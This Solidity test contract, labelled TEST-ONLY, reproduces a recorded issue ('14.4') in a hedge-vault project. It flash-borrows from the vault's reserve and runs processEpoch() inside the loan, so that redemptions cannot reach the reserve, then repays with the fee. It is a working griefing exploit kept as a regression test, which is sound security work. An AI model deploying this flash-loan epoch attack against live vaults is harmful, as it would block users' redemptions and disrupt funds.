// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IHedgeLayerVault} from "../../interfaces/IHedgeLayerVault.sol";

/// @title EpochGriefer
/// @notice TEST-ONLY. Issue 14.4's attack: borrows from the flash vault (the hedge vault's reserve) and processes
///         the hedge vault's epoch inside the loan, when the flash vault reports `maxWithdraw` 0, so that
///         redemptions could not reach the reserve. Pays the fee from its own balance.
contract EpochGriefer is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    IHedgeLayerVault public immutable hedge;
    IERC3156FlashLender public immutable lender;
    IERC20 public immutable asset;

    /// @param hedge_ The hedge vault.
    /// @param lender_ The flash vault.
    /// @param asset_ The stablecoin.
    constructor(IHedgeLayerVault hedge_, IERC3156FlashLender lender_, IERC20 asset_) {
        (hedge, lender, asset) = (hedge_, lender_, asset_);
    }

    /// @notice Borrows `amount` and processes the epoch inside the loan.
    /// @param amount The loan (the flash vault refuses 0).
    function attack(uint256 amount) external {
        lender.flashLoan(this, address(asset), amount, "");
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address,
        address,
        uint256 amount,
        uint256 fee,
        bytes calldata
    ) external returns (bytes32) {
        hedge.processEpoch();
        asset.forceApprove(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
